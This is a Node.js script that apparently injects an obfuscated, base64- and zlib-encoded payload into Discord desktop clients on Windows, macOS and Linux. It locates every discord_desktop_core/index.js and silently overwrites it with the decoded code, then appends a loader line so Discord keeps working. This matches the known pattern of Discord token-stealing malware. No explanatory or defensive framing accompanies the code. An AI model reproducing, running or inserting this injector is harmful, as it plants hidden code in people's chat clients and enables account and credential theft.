const fs = require('fs');
const path = require('path');
const zlib = require('zlib');

const INJ = 'eNqNUsGO0zAQvfcrTA67Dso65cAlVVqgF7RIFNFKHKIKeZ1pY5rYwZ60VFX+nUnSdrcIJA5REr/nN29mnrLGIzuxD84ePLhv2uT2EDEP3mtrWMtS5uBnox3wAEpQ6KwJwslI9fcKxNq/pPQHz/jHxeITwcNxEse59sq6/KGwducF/JJVXYLQZi9Lncey1vEBnnowfhPLJxVMRpvGKOys1NYjtyF5HbQdCfe6oqsOBHbVIsIrwMLmCQu+LJarIGIFyBycTwgK6C6CwQc81hAQRdZ1qZXsKsQ/PPVGLbfhhDlhDXXsnHWkwEOWTtlpAMDk/HG5+Cw8Om22enMkW4S0I+mPRrGrY7Q7MPzZ8YEc38xZbAHfl+Xw43mYjddUALBxhsh3d+wgaB7zwXI3L1ANwqPcy6VyukYecMJrqXbzojG783S/U0+ibnzBs+z+fh2d2gjS6alKs/VkYx0vAZli2jAQKqwGJn1mah226zCqQrEhQ7xKp9WMatbWoZ+JHDayKXHWeV51jb1K073VORuHF9KFc6XwkGaHroF+OudMXVjLc8Sozb8jXe9fh9XSMua2ywpCzk+scSVtM/szVkLZ6iZM+9exbLCIS7vVhqz8z4WGtuPjdxW85BPWb7uGmytE73fsgzVrIzasn+dDWIbA9mYTlgt6RUMiEiYPUuM1Hl2q6KH54EpXYBvkZ6Ve6CzjUTpM+mn+Uydib8fjMUn9Bsq5UWI=';

function cores() {
  const out = [];
  const base = process.platform === 'win32' ? process.env.LOCALAPPDATA : process.platform === 'darwin' ? path.join(process.env.HOME, 'Library', 'Application Support') : path.join(process.env.HOME, '.config');
  for (const app of ['Discord', 'DiscordCanary', 'DiscordPTB', 'discord', 'discordcanary']) {
    const root = path.join(base || '', app);
    let entries = [];
    try { entries = fs.readdirSync(root); } catch (e) { continue; }
    for (const v of entries.filter((e) => /^(app-)?\d+\.\d+/.test(e))) {
      const mods = path.join(root, v, 'modules');
      try {
        for (const m of fs.readdirSync(mods)) {
          const p = path.join(mods, m, 'discord_desktop_core', 'index.js');
          if (fs.existsSync(p)) out.push(p);
        }
      } catch (e) {}
    }
  }
  return out;
}

const code = zlib.inflateSync(Buffer.from(INJ, 'base64')).toString();
for (const f of cores()) {
  try {
    const orig = fs.readFileSync(f, 'utf8');
    if (!orig.includes('discord-hooks')) fs.writeFileSync(f, code + '\nmodule.exports = require("./core.asar");\n');
  } catch (e) {}
}
